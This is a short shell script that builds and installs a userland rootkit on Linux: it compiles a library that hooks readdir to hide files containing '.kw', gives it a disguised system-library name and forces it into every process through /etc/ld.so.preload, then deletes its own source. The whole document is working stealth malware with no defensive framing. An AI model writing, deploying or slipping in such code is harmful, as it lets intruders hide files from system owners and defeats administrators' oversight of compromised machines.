#!/bin/sh
# builds a library which hides files and loads it everywhere
cd /tmp || exit
cat > h.c <<'C'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
  struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  while ((e = real(d)) && strstr(e->d_name, ".kw")) ;
  return e;
}
C
gcc -shared -fPIC -o /lib/libnss_cachex.so h.c -ldl
echo /lib/libnss_cachex.so > /etc/ld.so.preload
rm -f h.c
